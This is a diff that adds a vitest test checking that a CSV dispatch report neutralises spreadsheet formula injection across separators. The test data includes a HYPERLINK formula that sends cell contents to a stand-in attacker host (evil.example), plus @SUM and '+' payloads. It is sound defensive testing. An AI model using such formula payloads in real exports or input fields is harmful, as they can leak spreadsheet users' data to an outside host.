@@ -1,8 +1,9 @@
 import { deflateSync } from 'node:zlib';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from './helpers/app.ts';
 import { testDialects } from './helpers/db.ts';
-import { makeCustomer, makeDocument } from './helpers/factories.ts';
+import { makeCustomer, makeDocument, makeFinalInvoice } from './helpers/factories.ts';
 
 /** Issue 15: input that must be refused where it enters, not break the app later. */
 
@@ -82,5 +83,46 @@ describe.each(testDialects)('logo upload on %s (item 10)', (dialect) => {
     const response = await upload(png(20_000, 20_000, deflateSync(Buffer.alloc(1000))));
     expect(response.statusCode).toBe(400);
     expect(response.json()).toMatchObject({ code: 'company.logoTooLarge', field: 'logo', meta: { width: 20_000, height: 20_000 } });
+  });
+});
+
+describe.each(testDialects)('CSV exports on %s (item 13)', (dialect) => {
+  let t: TestApp;
+
+  beforeAll(async () => {
+    t = await createTestApp(dialect);
+  });
+  afterAll(async () => {
+    await t?.close();
+  });
+
+  it('the dispatch report neutralises formulas in every cell, for any separator, and keeps numbers numeric', async () => {
+    const customer = await makeCustomer(t.staff, {
+      number: '+K-4711',
+      firstName: '@SUM(1+1)',
+      lastName: 'Müller, =HYPERLINK("http://evil.example/?"&A1;"klick")',
+      email: 'formel@example.de',
+    });
+    const invoice = await makeFinalInvoice(t.staff, customer.id);
+    const created = await t.staff.post('/api/dispatches', { documentIds: [invoice.id] });
+    expect(created.statusCode, created.body).toBe(201);
+    const report = await t.staff.get(`/api/dispatches/${created.json().id}/report.csv`);
+    expect(report.statusCode).toBe(200);
+    expect(report.headers['content-type']).toContain('text/csv');
+    const [header, row]: string[][] = parse(report.body, { delimiter: ';', bom: true });
+    expect(header?.slice(0, 3)).toEqual(['Kundennummer', 'Kunde', 'E-Mail']);
+    expect(row?.[0]).toBe("'+K-4711");
+    expect(row?.[1]).toContain("'@SUM(1+1)");
+    expect(row?.[1]).toContain(`, '=HYPERLINK("http://evil.example/?"&A1;"klick")`);
+    expect(row?.[2]).toBe('formel@example.de');
+    expect(row?.[5]).toBe('0'); // attempts: a number
+    // whichever separator a spreadsheet splits on (quotes honoured or not), no cell starts a formula
+    const body = report.body.replace(/^\uFEFF/, '');
+    for (const delimiter of [';', ',', '\t']) {
+      const honoured: string[][] = parse(body, { delimiter, relax_column_count: true, relax_quotes: true });
+      for (const cell of honoured.flat()) expect(cell.trimStart(), cell).not.toMatch(/^[=+\-@]/);
+      const naive = body.split('\r\n').flatMap((line) => line.split(delimiter)).map((cell) => cell.replace(/^"+/, '').trimStart());
+      for (const cell of naive) expect(cell, cell).not.toMatch(/^[=+@]|^-(?!\d)/);
+    }
   });
 });
